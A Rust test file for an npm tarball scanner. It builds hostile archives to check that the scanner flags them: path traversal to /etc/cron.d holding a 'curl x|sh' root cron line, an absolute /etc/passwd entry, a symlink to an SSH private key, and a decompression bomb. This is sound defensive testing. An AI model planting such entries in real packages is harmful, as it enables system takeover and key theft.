//! Hostile tarballs: each must become a finding or an unscannable verdict, never a
//! panic or unbounded memory.

use std::io::Write as _;

use crate::{ScanOptions, Severity, Verdict, read_tarball, scan_tarball};

/// One raw tar entry; the name bytes are written verbatim so tests can build paths the
/// `tar` crate's builder refuses (`..`, absolute).
struct RawEntry<'a> {
    name: &'a [u8],
    kind: u8,
    body: &'a [u8],
    link: &'a [u8],
}

fn regular<'a>(name: &'a str, body: &'a str) -> RawEntry<'a> {
    RawEntry { name: name.as_bytes(), kind: b'0', body: body.as_bytes(), link: b"" }
}

fn raw_tar(entries: &[RawEntry<'_>]) -> Vec<u8> {
    let mut tar = Vec::new();
    for entry in entries {
        let mut header = [0u8; 512];
        header[..entry.name.len()].copy_from_slice(entry.name);
        header[100..107].copy_from_slice(b"0000644");
        header[108..115].copy_from_slice(b"0000000");
        header[116..123].copy_from_slice(b"0000000");
        let size = format!("{:011o}", entry.body.len());
        header[124..135].copy_from_slice(size.as_bytes());
        header[136..147].copy_from_slice(b"00000000000");
        header[156] = entry.kind;
        header[157..157 + entry.link.len()].copy_from_slice(entry.link);
        header[257..263].copy_from_slice(b"ustar\0");
        header[263..265].copy_from_slice(b"00");
        header[148..156].copy_from_slice(b"        ");
        let checksum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..155].copy_from_slice(format!("{checksum:06o}\0").as_bytes());
        tar.extend_from_slice(&header);
        tar.extend_from_slice(entry.body);
        tar.resize(tar.len().div_ceil(512) * 512, 0);
    }
    tar.resize(tar.len() + 1024, 0);
    tar
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const PACKAGE_JSON: &str = r#"{"name":"hostile","version":"1.0.0"}"#;

fn rules(tarball: &[u8]) -> Vec<(String, Severity)> {
    let report = scan_tarball(tarball, None, &ScanOptions::default());
    assert_eq!(report.verdict, Verdict::Scanned, "{report:#?}");
    report.findings.into_iter().map(|finding| (finding.rule, finding.severity)).collect()
}

fn unscannable_reason(tarball: &[u8], options: &ScanOptions) -> String {
    match scan_tarball(tarball, None, options).verdict {
        Verdict::Unscannable { reason } => reason,
        Verdict::Scanned => panic!("expected unscannable"),
    }
}

#[test]
fn traversal_and_absolute_paths_are_findings_and_are_not_scanned() {
    let tarball = gzip(&raw_tar(&[
        regular("package/package.json", PACKAGE_JSON),
        regular("package/../../etc/cron.d/evil", "* * * * * root curl x|sh"),
        regular("/etc/passwd", "root:x:0:0"),
    ]));
    let found = rules(&tarball);
    assert_eq!(
        found.iter().filter(|(rule, severity)| rule == "tar-path-traversal" && *severity == Severity::High).count(),
        2
    );
}

#[test]
fn links_duplicates_and_special_entries_are_findings() {
    let tarball = gzip(&raw_tar(&[
        regular("package/package.json", PACKAGE_JSON),
        RawEntry { name: b"package/link", kind: b'2', body: b"", link: b"/home/user/.ssh/id_rsa" },
        RawEntry { name: b"package/hard", kind: b'1', body: b"", link: b"package/package.json" },
        RawEntry { name: b"package/fifo", kind: b'6', body: b"", link: b"" },
        regular("package/index.js", "module.exports = 1"),
        regular("package/index.js", "module.exports = 2"),
    ]));
    let found: Vec<String> = rules(&tarball).into_iter().map(|(rule, _)| rule).collect();
    assert_eq!(found.iter().filter(|rule| *rule == "tar-link-entry").count(), 2);
    assert!(found.contains(&"tar-special-entry".to_owned()));
    assert!(found.contains(&"tar-duplicate-entry".to_owned()));
}

#[test]
fn entries_outside_the_package_root_and_second_roots_are_findings() {
    let tarball = gzip(&raw_tar(&[
        regular("package/package.json", PACKAGE_JSON),
        regular("toplevel.js", "x"),
        regular("other/index.js", "y"),
    ]));
    let found: Vec<String> = rules(&tarball).into_iter().map(|(rule, _)| rule).collect();
    assert_eq!(found.iter().filter(|rule| *rule == "tar-suspicious-path").count(), 2);
}

#[test]
fn garbage_and_truncated_input_is_unscannable() {
    let options = ScanOptions::default();
    assert!(unscannable_reason(b"not a tarball", &options).contains("cannot be read"));
    let tarball = gzip(&raw_tar(&[regular("package/package.json", PACKAGE_JSON)]));
    let reason = unscannable_reason(&tarball[..tarball.len() / 2], &options);
    assert!(reason.contains("cannot be read"), "{reason}");
    assert!(unscannable_reason(&gzip(&[0u8; 2048]), &options).contains("no files"));
    assert!(unscannable_reason(b"", &options).contains("cannot be read"));
}

#[test]
fn a_decompression_bomb_stops_at_the_limit() {
    // 64 MiB of zeros compresses to ~64 KiB; with a 1 MiB cap the reader must stop early.
    let mut tar = raw_tar(&[regular("package/package.json", PACKAGE_JSON)]);
    tar.truncate(tar.len() - 1024);
    let huge_body = vec![0u8; 64 * 1024 * 1024];
    let mut entries = raw_tar(&[RawEntry { name: b"package/zeros.bin", kind: b'0', body: &huge_body, link: b"" }]);
    tar.append(&mut entries);
    let tarball = gzip(&tar);
    let options = ScanOptions { max_uncompressed_bytes: 1024 * 1024, ..ScanOptions::default() };
    let reason = unscannable_reason(&tarball, &options);
    assert!(
        reason.contains("decompresses to more than 1048576 bytes")
            || reason.contains("unpacks to more than 1048576 bytes")
            || reason.contains("more than the limit"),
        "{reason}"
    );
}

/// npm inflates every gzip member; a file in a second member must be scanned too.
#[test]
fn files_in_a_second_gzip_member_are_read() {
    let mut first = raw_tar(&[regular("package/package.json", PACKAGE_JSON)]);
    first.truncate(first.len() - 1024);
    let second = raw_tar(&[regular("package/hidden.js", "module.exports = 1")]);
    let mut tarball = gzip(&first);
    tarball.extend(gzip(&second));
    let files = read_tarball(&tarball, &ScanOptions::default()).unwrap();
    assert!(files.contains("hidden.js"), "{:?}", files.paths().collect::<Vec<_>>());
}

/// Bytes appended after the gzip stream are reported, not ignored.
#[test]
fn garbage_after_the_gzip_stream_is_trailing_data() {
    let mut tarball = gzip(&raw_tar(&[regular("package/package.json", PACKAGE_JSON)]));
    tarball.extend_from_slice(b"hidden payload after the archive");
    let report = scan_tarball(&tarball, None, &ScanOptions::default());
    assert_eq!(report.verdict, Verdict::Scanned);
    assert!(report.findings.iter().any(|finding| finding.rule == "tar-trailing-data"), "{:?}", report.findings);
}

#[test]
fn every_limit_makes_the_package_unscannable() {
    let tarball = gzip(&raw_tar(&[
        regular("package/package.json", PACKAGE_JSON),
        regular("package/a/b/c/d/e/index.js", "module.exports = 1"),
    ]));
    let cases = [
        ("compressed_size", ScanOptions { max_compressed_bytes: 10, ..ScanOptions::default() }),
        ("entry_count", ScanOptions { max_entries: 1, ..ScanOptions::default() }),
        ("file_size", ScanOptions { max_file_bytes: 10, ..ScanOptions::default() }),
        ("path_depth", ScanOptions { max_path_depth: 3, ..ScanOptions::default() }),
        ("path_length", ScanOptions { max_path_bytes: 12, ..ScanOptions::default() }),
    ];
    for (limit, options) in cases {
        let reason = unscannable_reason(&tarball, &options);
        insta::assert_snapshot!(limit, reason);
    }
}

#[test]
fn an_unreadable_previous_version_only_drops_the_diff() {
    let tarball = gzip(&raw_tar(&[regular("package/package.json", PACKAGE_JSON)]));
    let report = scan_tarball(&tarball, Some(b"garbage"), &ScanOptions::default());
    assert_eq!(report.verdict, Verdict::Scanned);
    assert!(report.diff.is_none());
    assert!(report.findings.iter().any(|finding| finding.message.contains("previous version could not be read")));
}
